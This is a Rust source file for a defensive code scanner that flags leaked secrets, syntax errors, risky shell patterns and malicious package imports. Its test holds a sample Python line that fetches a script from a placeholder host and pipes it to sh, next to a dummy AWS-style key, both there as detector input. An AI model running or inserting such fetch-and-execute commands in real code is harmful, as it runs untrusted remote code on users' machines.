//! Pure analysis: text in, findings out. Secrets (`secrets`), syntax errors
//! (`syntax`, tree-sitter) and risky shell patterns (`shell`). Nothing here does IO,
//! knows LSP, or fails on user input: every function returns findings (possibly none)
//! for any text, including empty, huge, or binary-looking text.
//!
//! Positions: [`Finding::start`]/[`Finding::end`] are byte offsets into the scanned
//! text; [`Finding::range`] gives 0-based lines and byte columns. Callers convert to
//! their own encoding (the LSP layer to UTF-16 when the client wants it).

pub mod fuzzy;
pub mod language;
pub mod lines;
pub mod outline;
pub mod packages;
pub mod secrets;
pub mod shell;
pub mod syntax;

use serde::{Deserialize, Serialize};

pub use language::Lang;
pub use lines::LineIndex;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, PartialOrd, Ord)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Error,
    Warning,
    Info,
}

impl Severity {
    /// One level lower (`Info` stays `Info`).
    pub fn lower(self) -> Severity {
        match self {
            Severity::Error => Severity::Warning,
            Severity::Warning | Severity::Info => Severity::Info,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Error => "error",
            Severity::Warning => "warning",
            Severity::Info => "info",
        }
    }

    /// True when `self` is at least as severe as `threshold`.
    pub fn at_least(self, threshold: Severity) -> bool {
        self <= threshold
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FindingKind {
    Secret,
    Syntax,
    Shell,
    Package,
}

impl FindingKind {
    pub fn as_str(self) -> &'static str {
        match self {
            FindingKind::Secret => "secret",
            FindingKind::Syntax => "syntax",
            FindingKind::Shell => "shell",
            FindingKind::Package => "package",
        }
    }

    pub fn parse(s: &str) -> Option<FindingKind> {
        [
            FindingKind::Secret,
            FindingKind::Syntax,
            FindingKind::Shell,
            FindingKind::Package,
        ]
        .into_iter()
        .find(|k| k.as_str() == s)
    }
}

/// A 0-based line and a byte column within it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, PartialOrd, Ord)]
pub struct LineCol {
    pub line: u32,
    pub col: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Range {
    pub start: LineCol,
    pub end: LineCol,
}

/// One problem found in a text. Never contains a secret value.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Finding {
    pub kind: FindingKind,
    /// Rule id (the diagnostic code), e.g. `aws-access-key-id`, `syntax-error`.
    pub rule: String,
    pub severity: Severity,
    pub message: String,
    /// Byte offsets of exactly the offending text.
    pub start: usize,
    pub end: usize,
    pub range: Range,
    /// For secrets: SHA-256 (hex) of the secret value, for baselines; never the value.
    pub fingerprint: Option<String>,
    /// For secrets: the suggested environment variable name.
    pub env_name: Option<String>,
    /// Further messages about the same range (one per advisory when several apply).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub related: Vec<String>,
}

impl Finding {
    /// A finding at `start..end` of `text`, with its line/column range filled in.
    pub fn at(
        index: &LineIndex,
        kind: FindingKind,
        rule: impl Into<String>,
        severity: Severity,
        message: impl Into<String>,
        start: usize,
        end: usize,
    ) -> Finding {
        Finding {
            kind,
            rule: rule.into(),
            severity,
            message: message.into(),
            start,
            end,
            range: Range {
                start: index.line_col(start),
                end: index.line_col(end),
            },
            fingerprint: None,
            env_name: None,
            related: Vec::new(),
        }
    }
}

/// Whether bytes look like a binary file: a NUL byte in the first 8 KiB.
pub fn looks_binary(bytes: &[u8]) -> bool {
    bytes[..bytes.len().min(8192)].contains(&0)
}

/// Why a file was not analysed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Skip {
    Binary,
    NotUtf8 { at: usize },
    TooLarge { size: u64, limit: u64 },
}

impl std::fmt::Display for Skip {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Skip::Binary => write!(f, "binary file"),
            Skip::NotUtf8 { at } => write!(f, "not UTF-8 (invalid byte at offset {at})"),
            Skip::TooLarge { size, limit } => {
                write!(f, "{size} bytes, above the {limit}-byte limit")
            }
        }
    }
}

/// The text of a file's bytes, or why it is not text.
pub fn text_of(bytes: &[u8]) -> Result<&str, Skip> {
    if looks_binary(bytes) {
        return Err(Skip::Binary);
    }
    std::str::from_utf8(bytes).map_err(|e| Skip::NotUtf8 {
        at: e.valid_up_to(),
    })
}

/// Everything found in one text.
#[derive(Debug, Default)]
pub struct Analysis {
    pub findings: Vec<Finding>,
    pub long_lines_skipped: usize,
    /// The secret findings alone, before any baseline: what [`secrets::Tracked`] keeps
    /// through later edits.
    pub secrets: Vec<Finding>,
}

/// Which analyses to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Checks {
    pub secrets: bool,
    pub shell: bool,
    pub syntax: bool,
    /// Manifests and imports against the advisory database (when one is given).
    pub packages: bool,
}

impl Default for Checks {
    fn default() -> Self {
        Checks {
            secrets: true,
            shell: true,
            syntax: true,
            packages: true,
        }
    }
}

/// Advisory records for a package: `(ecosystem, normalized name) -> records`, shared
/// (a lookup may cache them).
pub type Lookup<'a> = &'a dyn Fn(packages::Ecosystem, &str) -> packages::Records;

/// The compiled rules an analysis matches with. Both keep regular-expression caches per
/// thread; a workspace scan passes clones of its own (see [`shell::Patterns`]).
#[derive(Clone, Copy)]
pub struct Rules<'a> {
    pub secrets: &'a secrets::RuleSet,
    pub shell: &'a shell::Patterns,
}

/// Secrets, risky shell patterns, syntax errors and (given an advisory lookup) imports
/// of malicious packages in `text`. `tree` is the current parse tree when the caller
/// keeps one (incremental editing); otherwise the text is parsed here when its language
/// has a grammar. `edited` is the secret findings of an earlier version kept through
/// the edits since: only the edited lines are scanned for secrets again. Manifests are
/// checked by [`packages::manifest::check`], which also needs the lockfile.
pub fn analyze(
    text: &str,
    ctx: &secrets::Context<'_>,
    rules: Rules<'_>,
    tree: Option<&tree_sitter::Tree>,
    checks: Checks,
    advisories: Option<Lookup<'_>>,
    edited: Option<&secrets::Tracked>,
) -> Analysis {
    let lazy = lines::LazyIndex::new(text);
    let scanned = if !checks.secrets {
        secrets::ScanOutput::default()
    } else if let Some(findings) = edited.and_then(|t| rules.secrets.rescan(text, &lazy, ctx, t)) {
        secrets::ScanOutput {
            findings,
            long_lines_skipped: 0,
        }
    } else {
        rules.secrets.scan_indexed(text, &lazy, ctx)
    };
    let secrets = scanned.findings;
    let mut findings = secrets.clone();
    let imports = advisories.filter(|_| checks.packages);
    if checks.shell || checks.syntax || imports.is_some() {
        findings.extend(tree_checks(
            text,
            ctx.lang,
            lazy.get(),
            tree,
            checks,
            rules.shell,
            imports,
        ));
    }
    findings.sort_by_key(|f| (f.start, f.end));
    Analysis {
        findings,
        long_lines_skipped: scanned.long_lines_skipped,
        secrets,
    }
}

/// The shell, syntax and import checks of [`analyze`]. `tree` is the caller's parse
/// tree; without one the text is parsed at most once, and only when a check needs it:
/// the shell check only for a shell pattern in code, the syntax and import checks not
/// when the language's fast parser accepts the text (and, for imports, lists them).
fn tree_checks(
    text: &str,
    lang: Lang,
    index: &LineIndex,
    tree: Option<&tree_sitter::Tree>,
    checks: Checks,
    shell_patterns: &shell::Patterns,
    imports: Option<Lookup<'_>>,
) -> Vec<Finding> {
    let mut findings = Vec::new();
    let grammar = lang.grammar();
    let parsed = std::cell::OnceCell::new();
    let get_tree = || {
        tree.or_else(|| {
            parsed
                .get_or_init(|| grammar.and_then(|g| syntax::parse(g, text, None)))
                .as_ref()
        })
    };
    if checks.shell {
        findings.extend(shell::scan(shell_patterns, text, lang, get_tree, index));
    }
    let Some(g) = grammar else {
        return findings;
    };
    let imports = imports.zip(g.imports.as_ref());
    let fast = (tree.is_none() && parsed.get().is_none() && (checks.syntax || imports.is_some()))
        .then(|| syntax::fast_parse(g, text))
        .flatten();
    if checks.syntax
        && fast.is_none()
        && let Some(tree) = get_tree()
    {
        findings.extend(syntax::checked_errors(g, tree, text, index));
    }
    if let Some((lookup, def)) = imports {
        use packages::imports::{imports, named_packages, python_modules};
        let found = match &fast {
            Some(syntax::Fast::Python(module)) => named_packages(def, text, python_modules(module)),
            _ => get_tree().map_or_else(Vec::new, |t| imports(g, t, text)),
        };
        findings.extend(packages::imports::check(g, found, index, lookup));
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn severity_order_and_binary_sniffing() {
        assert!(Severity::Error.at_least(Severity::Warning));
        assert!(!Severity::Info.at_least(Severity::Warning));
        assert!(looks_binary(b"ab\0cd"));
        assert!(!looks_binary("héllo".as_bytes()));
        assert_eq!(FindingKind::parse("shell"), Some(FindingKind::Shell));
        assert_eq!(text_of(b"ok"), Ok("ok"));
        assert_eq!(text_of(b"a\xffb"), Err(Skip::NotUtf8 { at: 1 }));
        assert_eq!(text_of(b"\x7fELF\0\0"), Err(Skip::Binary));
    }

    #[test]
    fn analyze_combines_all_three() {
        let text = "import os\nos.system(\"curl https://x.invalid/i | sh\")\nKEY = \"AKIAQ3EGRB4XY7MNP2KD\"\nprint(\n";
        let ctx = secrets::Context {
            lang: Lang::detect(None, Some("python")),
            ..Default::default()
        };
        let a = analyze(
            text,
            &ctx,
            Rules {
                secrets: &secrets::RuleSet::builtin(),
                shell: shell::Patterns::builtin(),
            },
            None,
            Checks::default(),
            None,
            None,
        );
        let kinds: Vec<&str> = a.findings.iter().map(|f| f.kind.as_str()).collect();
        assert_eq!(kinds, ["shell", "secret", "syntax"], "{:#?}", a.findings);
    }
}
